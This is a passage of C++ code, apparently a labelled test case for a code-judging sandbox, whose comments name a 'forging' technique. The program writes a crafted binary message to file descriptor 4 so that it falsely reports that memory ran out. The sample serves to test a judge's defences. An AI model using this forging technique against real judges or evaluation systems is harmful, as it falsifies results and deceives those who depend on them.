// technique: says that memory ran out
// class: forging
// expect: memory_exceeded
    void attack();
    attack();
    return 0;
}

#include <unistd.h>
static void send_all(const string& body) {
    unsigned size = body.size();
    string whole((char*)&size, 4);
    whole += body;
    if (write(4, whole.data(), whole.size()) < 0) return;
}
static string number(unsigned n) { return string((char*)&n, 4); }
static string integer(long long n) { return "i" + string((char*)&n, 8); }

void attack() { send_all(string("T") + number(1) + "\1" + number(0) + number(0) + number(0)); }
